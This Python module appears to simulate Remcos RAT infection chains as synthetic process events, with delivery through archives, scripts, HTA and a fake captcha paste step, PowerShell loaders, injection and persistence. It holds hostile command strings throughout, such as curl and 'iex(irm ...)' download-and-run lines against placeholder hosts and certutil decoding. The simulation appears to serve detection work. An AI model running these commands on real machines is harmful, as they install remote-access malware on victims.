"""Stories that begin with a script that the user opens."""

from __future__ import annotations

from typing import TYPE_CHECKING

from lineage.simulate import names
from lineage.simulate.benign.boot import SYSTEM32
from lineage.simulate.stories import delivery, remcos
from lineage.simulate.stories.scene import DOTNET, WOW64

if TYPE_CHECKING:
    from lineage.simulate.facts import Process
    from lineage.simulate.machine import Activity
    from lineage.simulate.stories.scene import Scene

ADDRESS_BOOK = "C:\\Program Files (x86)\\Windows Mail\\wab.exe"


def image_script_registry(s: Scene) -> Activity:
    """A script in a disk image keeps its stages in the registry; PowerShell runs from there."""
    shell, script = yield from delivery.mounted(
        s, f"{s.plan.document}.iso", f"{s.plan.document}.vbs"
    )
    host = delivery.wscript(s, shell, script)
    key = f"{s.m.hive}\\Software\\{s.word()}"
    s.m.set(host, f"{key}\\{s.word()}", "UwB0AGEAcgB0AC0AUwBsAGUAZQBwAA==", s.own("stage"))
    yield 2
    loader = s.powershell(
        host,
        "-windowstyle hidden -enc $((Get-ItemProperty 'HKCU:\\Software\\x').y)",
        "[System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer",
        wow64=True,
    )
    s.m.load(loader, f"{s.temp}\\{s.word()}\\{s.word()}.dll", s.own("compiled code"))
    yield 5
    rat = s.run(loader, WOW64 + "ieinstal.exe", f'"{WOW64}ieinstal.exe"', "injected")
    s.fetch(rat)
    remcos.settle(s, rat)

    def again(process: Process) -> Activity:
        yield 3
        worker = s.run(process, WOW64 + "ieinstal.exe", f'"{WOW64}ieinstal.exe"', "injected")
        yield from remcos.work(s, worker)

    command = "powershell.exe -w 1 $x=(gp HKCU:\\Software\\x).y;powershell.exe -c $x"
    s.run_value(rat, loader.image, command, again)
    yield from remcos.work(s, rat)


def archive_script_regasm(s: Scene) -> Activity:
    """A script in a RAR archive; PowerShell with reversed and replaced strings; RegAsm."""
    window, script = yield from delivery.archiver(
        s, f"{s.plan.document}.rar", f"{s.plan.document}.vbs", program=delivery.WINRAR
    )
    host = delivery.wscript(s, window, script)
    s.fetch(host)
    yield 2
    first = s.powershell(
        host,
        "-command \"$c='JABk'.replace('DgTre','A');$d=[System.Text.Encoding]::Unicode.GetString"
        '([Convert]::FromBase64String($c));powershell.exe -nop -w hidden -c $d"',
        "FromBase64String",
    )
    second = s.powershell(first, "-nop -w hidden -c $d", "DownloadData | Load | Invoke")
    s.fetch(second)
    yield 4
    rat = s.run(second, DOTNET + "RegAsm.exe", f'"{DOTNET}RegAsm.exe"', "injected")
    remcos.settle(s, rat)
    copy = s.save(first, f"{s.roaming}\\{s.word()}.vbs", "script")

    def again(process: Process) -> Activity:
        yield 2
        loader = s.powershell(process, "-nop -w hidden -c $d", "Load")
        yield 3
        worker = s.run(loader, DOTNET + "RegAsm.exe", f'"{DOTNET}RegAsm.exe"', "injected")
        yield from remcos.work(s, worker)

    s.run_value(first, SYSTEM32 + "wscript.exe", f'wscript.exe "{copy}"', again)
    yield from remcos.work(s, rat, log="{roaming}\\" + s.word(2) + "\\logs.dat")


def encoded_archive_address_book(s: Scene) -> Activity:
    """A script out of a text-encoded attachment; its shellcode ends in the address book."""
    window, script = yield from delivery.archiver(
        s, f"{s.plan.document}.uue", f"{s.plan.document}.vbs"
    )
    host = delivery.wscript(s, window, script)
    yield 1
    first = s.powershell(host, "\"cls;write 'Overbid';function Sp($a){$a.SubString(4,1)}\"", "Sp")
    s.fetch(first)
    s.save(first, f"{s.roaming}\\{s.word()}.Eft", "stage")
    yield 4
    second = s.powershell(first, "\"cls;write 'Overbid'\"", "VirtualProtect", wow64=True)
    yield 5
    rat = s.run(second, ADDRESS_BOOK, f'"{ADDRESS_BOOK}"', "injected")
    s.fetch(rat)
    remcos.settle(s, rat)
    yield from remcos.work(s, rat, log="{roaming}\\" + s.word(3) + ".dat")
    s.m.set(
        rat,
        f"{s.m.hive}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{s.plan.autostart}",
        f"%{s.word()}% -w 1 $a=(Get-ItemProperty -Path 'HKCU:\\b\\').c;%{s.word()}% ($a)",
        s.own("autostart"),
    )


def script_installer_tool(s: Scene) -> Activity:
    """A script has PowerShell hollow a .NET tool; it stays by a shortcut in Startup."""
    shell, script = yield from delivery.zip_window(
        s, f"{s.plan.document}.zip", f"{s.plan.document}.vbs"
    )
    host = delivery.wscript(s, shell, script)
    s.fetch(host)
    stage = s.save(host, f"{s.temp}\\{s.word()}.ps1", "script")
    yield 2
    loader = s.powershell(
        host,
        f'-NoProfile -WindowStyle Hidden -ExecutionPolicy RemoteSigned -File "{stage}"',
        "[System.Reflection.Assembly]::Load",
        path=stage,
    )
    yield 4
    rat = s.run(loader, DOTNET + "InstallUtil.exe", f'"{DOTNET}InstallUtil.exe"', "injected")
    remcos.settle(s, rat)

    def again(process: Process) -> Activity:
        yield 3
        worker = s.run(
            process, DOTNET + "InstallUtil.exe", f'"{DOTNET}InstallUtil.exe"', "injected"
        )
        yield from remcos.work(s, worker)

    s.startup_file(
        loader,
        f"{s.word()}.lnk",
        loader.image,
        f'"{loader.image}" -NoProfile -WindowStyle Hidden -File "{stage}"',
        again,
    )
    yield from remcos.work(s, rat, pictures="{roaming}\\Screenshots")


def javascript_curl(s: Scene) -> Activity:
    """A script in Windows 11's zip folder has curl fetch a program into the Public folder."""
    shell, script = yield from delivery.zip_window(
        s, f"{s.plan.document}.zip", f"{s.plan.document}.js", windows_11=True
    )
    host = delivery.wscript(s, shell, script)
    path = f"C:\\Users\\Public\\{s.word(2)}.exe"
    yield 1
    command = f'/c curl -s -L https://x/y -o "{path}" && start "" "{path}"'
    prompt = s.run(host, SYSTEM32 + "cmd.exe", f'"{SYSTEM32}cmd.exe" {command}', "shell")
    curl = s.run(
        prompt, SYSTEM32 + "curl.exe", f'curl -s -L https://x/y -o "{path}"', "download", lifetime=3
    )
    s.fetch(curl, "raw.githubusercontent.com")
    yield 2
    s.drop(curl, path, "payload file")
    yield 1
    rat = s.run(prompt, path, f'"{path}"', "payload")
    s.m.exit(prompt)
    remcos.settle(s, rat, key=f"{s.word(2)}-{names.identifier(s.m.random)}")

    def again(process: Process) -> Activity:
        yield from remcos.work(s, process, log="{programdata}\\" + s.plan.log_folder + "\\k.dat")

    s.task(rat, path, path, again)
    yield from again(rat)


def hta_fileless(s: Scene) -> Activity:
    """A shortcut's mshta fetches an HTA; PowerShell runs shellcode in itself; mshta in Run."""
    shell, _ = yield from delivery.zip_window(
        s, f"{s.plan.document}.zip", f"{s.plan.document}.pdf.lnk"
    )
    url = f"https://{s.plan.servers[0]}/{s.word()}.hta"
    hta = s.run(shell, SYSTEM32 + "mshta.exe", f'"{SYSTEM32}mshta.exe" {url}', "script host")
    s.fetch(hta)
    s.save(hta, f"C:\\Users\\Public\\{s.word()}.pdf", "decoy")
    stage = s.save(hta, f"C:\\Users\\Public\\{s.word()}.ps1", "script")
    copy = s.save(hta, f"C:\\Users\\Public\\{s.word()}.hta", "script")
    yield 2

    def load(parent: Process) -> Process:
        return s.powershell(
            parent,
            f'-ExecutionPolicy Bypass -WindowStyle Hidden -File "{stage}"',
            "VirtualAlloc; [Marshal]::Copy; CallWindowProc",
            "payload",
            wow64=True,
            path=stage,
        )

    rat = load(hta)
    remcos.settle(s, rat)

    def again(process: Process) -> Activity:
        yield 2
        yield from remcos.work(s, load(process))

    s.run_value(hta, SYSTEM32 + "mshta.exe", f'"{SYSTEM32}mshta.exe" "{copy}"', again)
    yield from remcos.work(s, rat)


def renamed_tools(s: Scene) -> Activity:
    """A batch file copies cmd and certutil under other names, and decodes a program with them."""
    window, script = yield from delivery.archiver(
        s, f"{s.plan.document}.rar", f"{s.plan.document}.cmd", program=delivery.WINRAR
    )
    m = s.m
    prompt = s.run(window, SYSTEM32 + "cmd.exe", f'{SYSTEM32}cmd.exe /c ""{script}" "', "shell")
    alpha, kn = f"C:\\Users\\Public\\{s.word(2)}.exe", f"C:\\Users\\Public\\{s.word(2)}x.exe"
    extract = SYSTEM32 + "extrac32.exe"
    for copy, tool in ((alpha, "cmd.exe"), (kn, "certutil.exe")):
        process = s.run(
            prompt, extract, f'extrac32 /C /Y {SYSTEM32}{tool} "{copy}"', "copier", lifetime=1
        )
        m.place(copy, m.binary(SYSTEM32 + tool))
        m.write(process, copy, s.own("renamed tool"))
        yield 1
    path = f"C:\\Users\\Public\\Libraries\\{s.plan.program[:-4]}.PIF"
    for step in (f'-decodehex -F "{script}" "{path}t" 9', f'-decodehex -F "{path}t" "{path}" 12'):
        shell = s.run(prompt, alpha, f"{alpha} /c {kn} {step}", "shell", lifetime=2)
        decoder = s.run(shell, kn, f"{kn} {step}", "decoder", lifetime=2)
        s.drop(decoder, path if step.endswith("12") else f"{path}t", "payload file")
        yield 1
    loader = s.run(prompt, path, path, "loader")
    m.exit(prompt)
    s.fetch(loader)
    yield 4
    rat = s.run(loader, WOW64 + "SndVol.exe", WOW64 + "SndVol.exe", "injected")
    remcos.settle(s, rat)
    link = s.save(loader, f"C:\\Users\\Public\\{s.plan.autostart}.url", "shortcut")

    def again(process: Process) -> Activity:
        yield 3
        worker = s.run(process, WOW64 + "SndVol.exe", WOW64 + "SndVol.exe", "injected")
        yield from remcos.work(s, worker)

    value = f"{m.hive}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{s.plan.autostart}"
    m.set(loader, value, link, s.own("autostart"))
    s.returns(path, f'"{path}" ', again)
    yield from remcos.work(s, rat, log="{programdata}\\remcos\\logs.dat")


def pasted_command(s: Scene) -> Activity:
    """A web page has the user paste a command into the Run dialogue."""
    m = s.m
    yield from delivery.download(s, f"{s.plan.document}.png")
    shell = m.shell()
    mru = f"{m.hive}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\\a"
    m.set(shell, mru, "mshta https://x/y # I am not a robot\\1", s.own("pasted command"))
    hta = s.run(
        shell,
        SYSTEM32 + "mshta.exe",
        f'"{SYSTEM32}mshta.exe" https://{s.plan.servers[0]}/verify',
        "script host",
    )
    s.fetch(hta)
    yield 2
    loader = s.powershell(
        hta, '-w h -ep bypass -c "iex(irm https://x/z)"', "Expand-Archive; Start-Process"
    )
    s.fetch(loader)
    folder = f"C:\\ProgramData\\{s.word()}"
    yield 3
    program = s.save(loader, f"{folder}\\{s.word()}.exe", "honest program")
    s.drop(loader, f"{folder}\\version.dll", "side-loaded library")
    host = s.run(loader, program, f'"{program}"', "side-loading program")
    m.load(host, f"{folder}\\version.dll", s.own("side-loaded library"))
    yield 2
    rat = s.run(host, WOW64 + "cmd.exe", WOW64 + "cmd.exe", "injected")
    remcos.settle(s, rat)

    def again(process: Process) -> Activity:
        m.load(process, f"{folder}\\version.dll", s.own("side-loaded library"))
        yield 3
        worker = s.run(process, WOW64 + "cmd.exe", WOW64 + "cmd.exe", "injected")
        yield from remcos.work(s, worker)

    s.run_value(host, program, f'"{program}"', again)
    yield from remcos.work(s, rat)


def python_over_webdav(s: Scene) -> Activity:
    """A shortcut on a WebDAV share starts a batch file; a portable Python injects the payload."""
    m = s.m
    shell, _ = yield from delivery.download(s, f"{s.plan.document}.url")
    share = f"\\\\{s.word()}.trycloudflare.com@SSL\\DavWWWRoot"
    client = s.between(
        None,
        SYSTEM32 + "rundll32.exe",
        f"rundll32.exe {SYSTEM32}davclnt.dll,DavSetCookie {share[2:]} https://x/",
        lifetime=5,
    )
    m.resolve(client, f"{s.word()}.trycloudflare.com", s.own("delivery"))
    yield 2
    prompt = s.run(
        shell, SYSTEM32 + "cmd.exe", f'"{SYSTEM32}cmd.exe" /c "{share}\\new.bat"', "shell"
    )
    loader = s.powershell(
        prompt,
        "-Command \"Invoke-WebRequest -Uri 'https://x/p.zip' -OutFile $env:USERPROFILE\\p.zip\"",
        "Invoke-WebRequest",
    )
    s.fetch(loader)
    yield 5
    python = s.save(loader, f"{m.home}\\Downloads\\Python\\Python312\\python.exe", "runtime")
    script = s.save(loader, f"{m.home}\\Downloads\\Python\\{s.word()}.py", "script")
    m.exit(loader)
    runner = s.run(prompt, python, f"python.exe {script}", "script host")
    yield 2
    rat = s.run(runner, SYSTEM32 + "notepad.exe", SYSTEM32 + "notepad.exe", "injected")
    m.exit(prompt)
    remcos.settle(s, rat)

    def again(process: Process) -> Activity:
        yield 2
        second = s.run(process, python, f"{python} {script}", "script host")
        yield 2
        worker = s.run(second, SYSTEM32 + "notepad.exe", SYSTEM32 + "notepad.exe", "injected")
        yield from remcos.work(s, worker)

    s.startup_file(
        loader,
        "startuppp.bat",
        SYSTEM32 + "cmd.exe",
        f'{SYSTEM32}cmd.exe /c ""{{path}}" "',
        again,
    )
    yield from remcos.work(s, rat)
